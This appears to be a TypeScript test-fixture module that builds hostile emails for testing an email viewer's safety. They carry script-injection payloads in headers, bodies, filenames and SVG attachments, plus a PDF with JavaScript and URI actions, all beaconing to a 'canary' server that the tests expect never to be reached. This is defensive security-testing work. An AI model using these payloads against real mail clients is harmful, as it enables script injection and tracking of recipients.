/** An email that attacks the page that shows it in every place that an email controls. */

/** A script that is noticed when it runs: it opens a dialog, marks the window and sends a request to the canary. */
function attack(canary: string, place: string): string {
  return `alert('${place}');window.top.hacked='${place}';new Image().src='${canary}${place}'`;
}

/** A PNG image of one pixel. */
const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** @param canary URL of a server that must receive no request */
export function hostileEmail(canary: string): Buffer {
  const tag = (place: string) => `<img src=x onerror="${attack(canary, place)}">`;
  const html = [
    `<html><head><meta http-equiv=refresh content="0;url=${canary}refresh"><base href="${canary}">`,
    `<link rel=stylesheet href="${canary}style.css"><script>${attack(canary, 'script')}</script></head>`,
    `<body onload="${attack(canary, 'onload')}"><p id=shown>The HTML of the hostile email</p>`,
    tag('html'),
    `<img src="${canary}pixel.png"><iframe src="${canary}frame"></iframe><object data="${canary}object"></object>`,
    `<div style="background:url(${canary}background)">x</div>`,
    `<svg><script>${attack(canary, 'svg')}</script></svg><form action="${canary}form"><button>Go</button></form>`,
    '<img id=logo src="cid:Logo@example.com">',
    `<a id=top target=_top href="javascript:${attack(canary, 'link')}">link</a></body></html>`,
  ].join('\r\n');
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${attack(canary, 'svg-file')}</script></svg>`;
  return Buffer.from(
    [
      `From: =?utf-8?B?${base64(`<script>${attack(canary, 'sender')}</script>`)}?= <evil@example.com>`,
      'To: orders@example.com',
      `Subject: =?utf-8?B?${base64(`<b>Hostile</b> ${tag('subject')}`)}?=`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: multipart/alternative; boundary=c',
      '',
      '--c',
      'Content-Type: text/plain; charset=utf-8',
      '',
      `The text ${tag('text')}`,
      '--c',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '--c--',
      '--b',
      'Content-Type: image/svg+xml',
      `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(`">${tag('filename')}.svg`)}`,
      'Content-Transfer-Encoding: base64',
      '',
      base64(svg),
      '--b',
      'Content-Type: image/png; name=logo.png',
      'Content-ID: <logo@example.com>',
      'Content-Disposition: inline',
      'Content-Transfer-Encoding: base64',
      '',
      PIXEL,
      '--b--',
      '',
    ].join('\r\n'),
  );
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

/**
 * A PDF that tries to connect while it is opened, by scripts and by actions, and then opens a dialog with the text `done`.
 *
 * @param canary URL of a server that must receive no connection
 */
export function pdfEmail(canary: string): Buffer {
  const js = [
    `try { app.launchURL('${canary}launch', true); } catch (error) {}`,
    `try { this.getURL('${canary}get'); } catch (error) {}`,
    `try { this.submitForm('${canary}submit'); } catch (error) {}`,
    "app.alert('done');",
  ].join(' ');
  const next = `[<< /S /URI /URI (${canary}uri) >> << /S /SubmitForm /F << /FS /URL /F (${canary}form) >> >>]`;
  const pdf = pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (${canary}page) >> >> >>`,
    `<< /S /JavaScript /JS (${js.replaceAll('(', '\\(').replaceAll(')', '\\)')}) /Next ${next} >>`,
  ]);
  return Buffer.from(
    [
      'From: evil@example.com',
      'Subject: A PDF with actions',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: application/pdf; name=actions.pdf',
      'Content-Disposition: attachment',
      'Content-Transfer-Encoding: base64',
      '',
      ...(pdf.toString('base64').match(/.{1,76}/g) ?? []),
      '--b--',
      '',
    ].join('\r\n'),
  );
}

/** @param objects the first is the catalog */
function pdfOf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  return Buffer.from(
    `${text}${table}trailer << /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
  );
}

/** @param canary URL of a server that must receive no connection */
export function framesetEmail(canary: string): Buffer {
  return Buffer.from(
    [
      'From: evil@example.com',
      'Subject: Frameset',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<html><frameset cols="*,*"><frame src="${canary}left"><frame src="${canary}right">`,
      '<noframes>The text of the frameset email</noframes></frameset></html>',
      '',
    ].join('\r\n'),
  );
}

/** An email whose headers would fill many screens. */
export function longEmail(): Buffer {
  const to = Array.from({ length: 3_000 }, (_, index) => `buyer-${index}@example.com`).join(',\r\n ');
  return Buffer.from(
    [
      `From: ${'Long '.repeat(40_000)}<evil@example.com>`,
      `To: ${to}`,
      `Subject: Long ${'W'.repeat(150_000)}`,
      `List-Id: ${'L'.repeat(150_000)}`,
      '',
      'Ten chairs.',
      '',
    ].join('\r\n'),
  );
}
